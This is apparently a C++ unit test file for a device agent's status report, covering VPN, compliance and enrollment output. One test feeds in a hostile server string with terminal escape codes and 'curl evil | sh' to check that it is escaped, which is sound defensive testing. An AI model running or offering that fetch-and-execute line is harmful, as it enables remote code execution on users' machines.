#include "agent/cli/status_report.h"

#include "agent/vpn/vpn_status_file.h"
#include "common/util/files.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/agent/cli/cli_test_util.h"
#include "tests/agent/vpn/vpn_test_util.h"
#include "tests/testing/temp_dir.h"

namespace trellis::agent {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

class SeenTunnel : public TunnelController {
 public:
  absl::StatusOr<ApplyResult> Apply(const TunnelPlan&) override {
    return ApplyResult{};
  }
  TunnelObservation Observe() override {
    TunnelObservation o;
    o.present = o.up = true;
    o.peer_endpoint = "192.0.2.1:51820";
    o.latest_handshake = absl::FromUnixSeconds(1767225600);
    return o;
  }
  std::string Describe() const override { return "interface trellis0"; }
};

class StatusReportTest : public ::testing::Test {
 protected:
  void SetUp() override {
    AgentRecord record;
    record.server_address = "trellis.example:8443";
    record.device_id = "dabcdef";
    record.group = "staff";
    record.ownership = "corporate";
    ASSERT_TRUE(state_.SaveRecord(record).ok());
  }
  void SaveLastCheckIn(const v1::CheckInResponse& response) {
    ASSERT_TRUE(WriteFileAtomic(state_.LastCheckInPath(),
                                response.SerializeAsString(), 0600)
                    .ok());
  }
  testing::TempDir dir_;
  AgentState state_{dir_.path()};
};

TEST_F(StatusReportTest, ShowsVpnAccessTunnelAndTrustedNetwork) {
  v1::CheckInResponse last;
  last.set_compliance_state(v1::COMPLIANCE_STATE_COMPLIANT);
  *last.mutable_vpn() = vpn_testing::FullAssignment();
  SaveLastCheckIn(last);
  VpnStatusRecord record;
  record.tunnel = "up";
  record.reason = "full access through Council VPN (always on)";
  record.trusted_network = "no";
  record.trusted_detail = "search domains: home.lan";
  ASSERT_TRUE(SaveVpnStatus(state_, record).ok());
  SeenTunnel tunnel;

  std::string text = StatusReport(state_, absl::Now(), false, &tunnel);
  EXPECT_THAT(text, HasSubstr("VPN access:    full - meets policy\n"));
  EXPECT_THAT(text, HasSubstr("Tunnel addr:   10.200.0.7/32\n"));
  EXPECT_THAT(text,
              HasSubstr("VPN profile:   corp (Council VPN, always-on)\n"));
  EXPECT_THAT(text, HasSubstr("Tunnel:        up - full access through "
                              "Council VPN (always on)\n"));
  EXPECT_THAT(text, HasSubstr("Interface:     interface trellis0 up\n"));
  EXPECT_THAT(text, HasSubstr("Handshake:     2026-01-01 00:00:00 UTC with "
                              "192.0.2.1:51820\n"));
  EXPECT_THAT(text,
              HasSubstr("Trusted net:   no (search domains: home.lan)\n"));

  std::string json = StatusReport(state_, absl::Now(), true, &tunnel);
  EXPECT_THAT(json, HasSubstr("\"vpn_access\":\"full\""));
  EXPECT_THAT(json, HasSubstr("\"vpn_reason\":\"meets policy\""));
  EXPECT_THAT(json, HasSubstr("\"vpn_tunnel_address\":\"10.200.0.7/32\""));
  EXPECT_THAT(json, HasSubstr("\"vpn_tunnel\":\"up\""));
  EXPECT_THAT(json, HasSubstr("\"vpn_trusted_network\":\"no\""));
  EXPECT_THAT(json,
              HasSubstr("\"vpn_last_handshake\":\"2026-01-01 00:00:00 UTC\""));
}

TEST_F(StatusReportTest, SaysWhenTheVpnIsNotInUse) {
  v1::CheckInResponse last;
  last.set_compliance_state(v1::COMPLIANCE_STATE_COMPLIANT);
  SaveLastCheckIn(last);
  EXPECT_THAT(StatusReport(state_, absl::Now(), false),
              HasSubstr("VPN:           not in use"));
  EXPECT_THAT(StatusReport(state_, absl::Now(), true),
              HasSubstr("\"vpn_assigned\":false"));
}

TEST_F(StatusReportTest, AccessRemovedShowsTheServersReason) {
  v1::CheckInResponse last;
  last.mutable_vpn()->set_access(v1::VPN_ACCESS_NONE);
  last.mutable_vpn()->set_reason("firewall-on fails");
  last.mutable_vpn()->set_tunnel_address("10.200.0.7/32");
  SaveLastCheckIn(last);
  EXPECT_THAT(StatusReport(state_, absl::Now(), false),
              HasSubstr("VPN access:    none - firewall-on fails\n"));
}

TEST(StatusReportHumanTest, ShowsComplianceDeadlineAndFailingChecks) {
  testing::TempDir dir;
  AgentState state(dir.path() + "/state");
  cli_testing::SaveDevice(state);
  std::string text = StatusReport(state, cli_testing::Now(), false);
  EXPECT_THAT(text, HasSubstr("Compliance:    grace (access kept until "
                              "2027-01-15 08:00:00 UTC)\n"));
  EXPECT_THAT(text, HasSubstr("Failing checks:\n"
                              "  [FAIL] Disk is encrypted  (disk/encrypted)\n"
                              "       How to fix:\n"
                              "         Turn on FileVault\n"));
  EXPECT_THAT(text, HasSubstr("  [FAIL (excepted until 2027-02-01 00:00:00 "
                              "UTC: vendor laptop)] Firewall is on  "
                              "(firewall/on)\n"));
  EXPECT_THAT(text, Not(HasSubstr("OS is supported")));
}

TEST(StatusReportHumanTest, HostileServerTextPrintsEscaped) {
  testing::TempDir dir;
  AgentState state(dir.path() + "/state");
  cli_testing::SaveDevice(state, "\x1b]0;owned\x07\x1b[2Jcurl evil | sh");
  std::string text = StatusReport(state, cli_testing::Now(), false);
  EXPECT_THAT(text, HasSubstr("\\e]0;owned\\x07\\e[2Jcurl evil | sh"));
  EXPECT_EQ(text.find('\x1b'), std::string::npos);
  EXPECT_EQ(text.find('\x07'), std::string::npos);
}

class NormalUserStatusTest : public ::testing::Test {
 protected:
  void SetUp() override { cli_testing::SaveDevice(state_); }
  testing::TempDir dir_;
  AgentState state_{dir_.path() + "/state"};
};

TEST_F(NormalUserStatusTest, ReadsTheStatusFileWhenThePrivateFilesAreDenied) {
  ASSERT_TRUE(WriteStatusFile(state_, cli_testing::Now()).ok());
  DeviceView view =
      LoadDeviceView(state_, cli_testing::UserReader({StatusFilePath(state_)}));
  ASSERT_EQ(view.source, DeviceView::Source::kStatusFile) << view.problem;
  EXPECT_EQ(StatusExitCode(view), 0);
  std::string text = StatusReport(view, state_, cli_testing::Now(), false);
  EXPECT_THAT(text, HasSubstr("Enrolled:      yes (corporate device, group "
                              "staff)\n"));
  EXPECT_THAT(text, HasSubstr("Compliance:    grace (access kept until "
                              "2027-01-15 08:00:00 UTC)\n"));
  EXPECT_THAT(text, HasSubstr("[FAIL] Disk is encrypted"));
  EXPECT_THAT(text, HasSubstr("[FAIL (excepted until 2027-02-01 00:00:00 UTC: "
                              "vendor laptop)] Firewall is on"));
  EXPECT_THAT(text, HasSubstr("VPN access:    full - meets policy\n"));
  EXPECT_THAT(text, HasSubstr("Shown from:    " + StatusFilePath(state_)));
  // Only root can see the certificate.
  EXPECT_THAT(text, Not(HasSubstr("Certificate:")));
  std::string json = StatusReport(view, state_, cli_testing::Now(), true);
  EXPECT_THAT(json, HasSubstr("\"source\":\"status file\""));
  EXPECT_THAT(json, HasSubstr("\"compliance_state\":\"grace\""));
}

TEST_F(NormalUserStatusTest, NoReadableFileMeansPermissionNotAbsence) {
  DeviceView view = LoadDeviceView(state_, cli_testing::UserReader({}));
  EXPECT_EQ(view.source, DeviceView::Source::kNeedsPermission);
  EXPECT_EQ(StatusExitCode(view), 4);
  std::string text = StatusReport(view, state_, cli_testing::Now(), false);
  EXPECT_THAT(text, HasSubstr("Enrolled:      unknown\n"));
  EXPECT_THAT(text, HasSubstr("needs permission (run as root or ask IT)"));
  EXPECT_THAT(text, Not(HasSubstr("not enrolled")));
}

TEST(StatusReportNotEnrolledTest, MissingStateIsNotEnrolled) {
  testing::TempDir dir;
  AgentState state(dir.path() + "/none");
  DeviceView view = LoadDeviceView(state, RealFileReader());
  EXPECT_EQ(StatusExitCode(view), 3);
  EXPECT_THAT(StatusReport(view, state, absl::Now(), false),
              HasSubstr("Enrolled:      no\n"));
}

}  // namespace
}  // namespace trellis::agent
